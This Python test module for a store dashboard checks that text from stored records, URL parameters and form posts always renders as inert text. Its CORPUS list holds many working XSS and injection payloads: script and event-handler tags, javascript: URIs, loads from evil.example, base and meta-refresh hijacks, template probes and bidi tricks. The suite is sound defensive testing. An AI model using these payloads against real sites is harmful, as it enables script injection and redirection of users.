"""What strangers write stays text on every page: no tag, attribute, link, template or direction comes of it.

Two stores have the same things, one under hostile words and one under ordinary ones; their pages must be made of the
same tags and attributes. The same holds for words that come back from an address or from a form.
"""

from collections import Counter
from collections.abc import Iterator, Sequence
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest

from thaman_contracts.events import onboarding
from thaman_contracts.events.optimizer import GuardStep
from thaman_dashboard.testing_events import Run, authorized, item, observed, told
from thaman_dashboard.testing_pages import Browser, House, Markup, standing_house
from thaman_dashboard.testing_routes import Entry, entries
from thaman_kit.embedded.databases import Databases

CORPUS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "` onclick=`alert(1)",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "javascript:alert(1)",
    "JaVaScRiPt&#58;alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<form action=//evil.example><input name=csrf></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "</bdi></td></tr></table></section></main><h1>Evil</h1>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<!--<script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "{{7777*7777}}${7777*7777}<%=7777*7777%>",
    "{{ self.__init__.__globals__ }}",
    "{n} {0} %s %(n)s {amount!r}",
    "hx-on::load=alert(1)",
    "<div hx-get='//evil.example' hx-trigger='load'>x</div>",
    "\u202egnp.exe\u202c \u2066x\u2069 \u200fx",
    "\u202e\u202e\u202e never closed",
    "a\u2028b\u2029c",
    "ﺎ\u0300\u0301\u0302\u0303 z͑͗a̶l̶g̶o̶",
    '=HYPERLINK("//evil.example","x")',
)
WORDS = tuple(f"word{number}" for number in range(len(CORPUS)))
"""An ordinary word for each."""

TOLD = {"77": CORPUS, "78": WORDS}
LONGEST = 40
"""Of what every page takes from an address."""

ALIKE = 5
"""From this item on, items differ in their words alone."""

TEXT_FIELDS = ("text", "search", "", "url", "tel", "email")
ADDRESSES = frozenset(("href", "src", "action", "formaction", "xlink:href", "data", "srcdoc", "poster", "srcset"))


def _packed(words: Sequence[str]) -> list[str]:
    """All of them in as few parameters as they fit into."""
    packed = [""]
    for word in words:
        joined = f"{packed[-1]} {word}".strip()
        packed = [*packed[:-1], joined] if len(joined) <= LONGEST else [*packed, word[:LONGEST].strip()]
    return packed


PACKED = _packed(CORPUS)


class Shape(Markup):
    """A page as what it is made of, and what of it may turn the direction of the text around it."""

    def __init__(self, html: str) -> None:
        self.turning: list[str] = []
        super().__init__(html)

    def handle_data(self, data: str) -> None:
        """Words, and where they stand."""
        super().handle_data(data)
        # The title and options hold text alone, so nothing can isolate it there.
        alone = any(tag in ("bdi", "title", "option", "textarea") or given.get("dir") for tag, given in self._open[2:])
        if any(sign in data for sign in "\u202e\u2066\u200f") and not alone:
            self.turning.append(data)

    @property
    def parts(self) -> Counter[tuple[str, frozenset[str]]]:
        """How often it has a tag with such attributes."""
        return Counter((tag, frozenset(given)) for tag, given in self.tags)

    @property
    def dangers(self) -> list[str]:
        """Addresses that no page of ours leads to or loads."""
        found = [value or "" for _, given in self.tags for name, value in given.items() if name in ADDRESSES]
        return [one for one in found if not one.startswith(("/", "#", "https://rival.example/")) or one[:2] == "//"]


@pytest.fixture(scope="module")
def house(postgres_server: Databases) -> Iterator[House]:
    """The application over both stores; its owners are away."""
    with standing_house(postgres_server) as standing:
        for store, words in TOLD.items():
            _tell(standing, store, words)
        yield standing


def _tell(house: House, store: str, words: Sequence[str]) -> None:
    """Each word in every place of an item of its own, and all of them in one item's rivals and trail."""
    run, failed = Run(store), Run(store, "failed")
    items = [
        item(str(key), 1_000 + key, name=word, sku=word, brand=word, category=word, url=word)
        for key, word in enumerate(words, 1)
    ]
    house.streams.deliver(authorized(store, -60, name=" ".join(words)[:300]), observed(store, -50, *items))
    offers = run.offers(-40, *((one.key, one.name, 900) for one in items), *(("1", one.name, 901) for one in items),
                        ("2", f"https://rival.example/{words[4]}", 902))  # fmt: skip
    named = [one.model_copy(update={"competitor": one.url}) for one in offers.offers]
    trail = tuple(GuardStep(guard="strategy", outcome="move", detail=word) for word in words)
    summary = {"summary_ar": " ".join(words), "summary_en": " ".join(words)}
    house.streams.deliver(
        run.asked(-41, requested_by=words[0]), run.started(-41), offers.model_copy(update={"offers": tuple(named)}),
        run.assessed(-40).model_copy(update=summary),
        # Those with rivals come first in both stores: a page of the queue does not hold all.
        run.proposed(-41, "1", 1_000, 990, trail=trail, risk="high"),
        run.proposed(-40, "2", 1_000, 990, reason_ar=items[1].name, reason_en=items[1].name),
        *(run.proposed(-39, one.key, 1_000, 990, reason_ar=one.name, reason_en=one.name) for one in items[2:]),
        run.rejected(-38, "3").model_copy(update={"reason": words[3]}),
        run.held(-38, "4", words[0], reason_ar=words[1], reason_en=words[2]), run.completed(-30),
        failed.asked(-20), failed.started(-20), failed.failed(-19).model_copy(update={"reason": words[0]}),
        told(onboarding.StorePaused, store, -10, fence=1, reason=words[1], paused_by=words[0]),
    )  # fmt: skip


def _paths(store: str) -> Iterator[tuple[str, str]]:
    """Pages, each with one that is made of the same parts."""
    run = Run(store)
    yield from ((one, one) for one in ("/", "/approvals", "/products", "/runs", "/activity", "/audit", "/settings"))
    for key in range(1, len(CORPUS) + 1):
        if key <= ALIKE or key % 3 == 0:
            alike = str(min(key, ALIKE))
            yield f"/products/{key}", f"/products/{alike}"
            if key in (1, 3) or key % 6 == 0:
                yield f"/approvals/{run.proposal(str(key))}", f"/approvals/{Run('78').proposal(alike)}"
    for cause in ("r1", "failed"):
        yield f"/runs/{Run(store, cause).run_id}", f"/runs/{Run('78', cause).run_id}"


def _check(hostile: Shape, ordinary: Shape, where: str) -> None:
    assert hostile.parts - ordinary.parts == Counter(), where
    assert ordinary.parts - hostile.parts == Counter(), where
    assert hostile.dangers == [], where
    assert hostile.turning == [], where
    assert "<!" not in hostile.html.removeprefix("<!doctype html>"), where
    assert str(7777 * 7777) not in hostile.text, (where, "a template was carried out")


def test_words_on_record_stay_text(house: House) -> None:
    hostile, ordinary = (house.browser(store) for store in TOLD)
    shown, twins = "", dict[str, Shape]()
    for path, twin in _paths("77"):
        # Pages in Arabic are made of the same parts.
        page = Shape(hostile.page(path, "ar").html)
        twins[twin] = twins.get(twin) or Shape(ordinary.page(twin).html)
        _check(page, twins[twin], path)
        shown += page.text
    missing = [word for word in CORPUS if " ".join(word.split()) not in shown]
    assert missing == [], "never shown, so nothing was tried"


def test_words_of_an_address_stay_text(house: House) -> None:
    browser = house.browser("78")
    reflected = 0
    for place, entry in enumerate(entries(house.app)):
        names = [name for name in entry.query_names if name not in ("after", "cursor")]
        if not (entry.safe and entry.signed_in and names and not entry.path_names):
            continue
        # A third of the words on each page, and each word on a third of the pages.
        for words in PACKED[place % 3 :: 3]:
            page = browser.get(_asking(entry, names, words))
            ordinary = browser.get(_asking(entry, names, "w" * len(words)))
            where = f"{entry.path}?{words}"
            assert page.status_code == ordinary.status_code, where
            if page.headers["content-type"].startswith("text/html"):
                shape = Shape(page.text)
                _check(shape, Shape(ordinary.text), where)
                reflected += any(given.get("value") == words for _, given in shape.tags)
    assert reflected >= len(PACKED)


def _asking(entry: Entry, names: Sequence[str], words: str) -> str:
    return f"{entry.path}?{httpx.QueryParams(dict.fromkeys(names, words))}"


def test_words_of_a_form_stay_text(house: House) -> None:
    """What was typed comes back with what is wrong about it."""
    browser = house.browser("78")
    answered = 0
    for path in ("/", "/approvals", "/settings", "/products/1"):
        for action, fields in _forms(browser, path):
            free = [name for name, kind in fields.items() if kind in TEXT_FIELDS]
            if not free:
                continue
            ordinary = browser.post(action, dict.fromkeys(free, "nothing-like-it"))
            for words in PACKED[::6]:
                page = browser.post(action, dict.fromkeys(free, words))
                where = f"POST {action} {words}"
                assert page.status_code == ordinary.status_code, where
                if page.text:
                    _check(Shape(page.text), Shape(ordinary.text), where)
                    answered += 1
    assert answered > 10


def _forms(browser: Browser, path: str) -> list[tuple[str, dict[str, str]]]:
    """The forms of a page that change something: where they go, and their fields with their kinds."""
    found: list[tuple[str, dict[str, str]]] = []
    inside: dict[str, str] | None = None
    for tag, given in browser.page(path).tags:
        if tag == "form":
            inside = {} if given.get("method") == "post" else None
            if inside is not None:
                found.append((urlsplit(given.get("action") or path).path, inside))
        elif inside is not None and tag in ("input", "textarea", "select") and given.get("name"):
            kind: Any = "text" if tag == "textarea" else given.get("type") or ""
            inside[str(given["name"])] = "select" if tag == "select" else kind
    return found
